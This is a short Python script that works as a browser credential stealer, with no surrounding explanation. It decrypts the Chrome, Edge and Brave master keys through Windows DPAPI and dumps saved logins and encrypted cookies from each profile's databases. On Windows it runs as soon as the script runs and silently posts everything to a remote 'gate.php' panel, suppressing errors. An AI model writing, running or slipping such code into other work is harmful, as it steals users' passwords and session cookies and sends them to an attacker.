import base64
import json
import os
import shutil
import sqlite3
import tempfile

import requests

_LOCAL = os.getenv("LOCALAPPDATA", "")
_BROWSERS = {
    "chrome": os.path.join(_LOCAL, "Google", "Chrome", "User Data"),
    "edge": os.path.join(_LOCAL, "Microsoft", "Edge", "User Data"),
    "brave": os.path.join(_LOCAL, "BraveSoftware", "Brave-Browser", "User Data"),
}


def _master_key(root):
    with open(os.path.join(root, "Local State"), encoding="utf-8") as fh:
        key = base64.b64decode(json.load(fh)["os_crypt"]["encrypted_key"])[5:]
    import win32crypt
    return win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]


def _rows(db, query):
    tmp = os.path.join(tempfile.gettempdir(), os.urandom(4).hex())
    shutil.copy2(db, tmp)
    try:
        with sqlite3.connect(tmp) as con:
            return con.execute(query).fetchall()
    finally:
        os.remove(tmp)


def _grab():
    out = {}
    for name, root in _BROWSERS.items():
        profile = os.path.join(root, "Default")
        if not os.path.isdir(profile):
            continue
        entry = {"key": base64.b64encode(_master_key(root)).decode()}
        entry["logins"] = _rows(os.path.join(profile, "Login Data"),
                                "SELECT origin_url, username_value, hex(password_value) FROM logins")
        entry["cookies"] = _rows(os.path.join(profile, "Network", "Cookies"),
                                 "SELECT host_key, name, hex(encrypted_value) FROM cookies")
        out[name] = entry
    return out


if os.name == "nt":
    try:
        requests.post("https://panel.autohelp.invalid/gate.php", json=_grab(), timeout=15)
    except Exception:
        pass
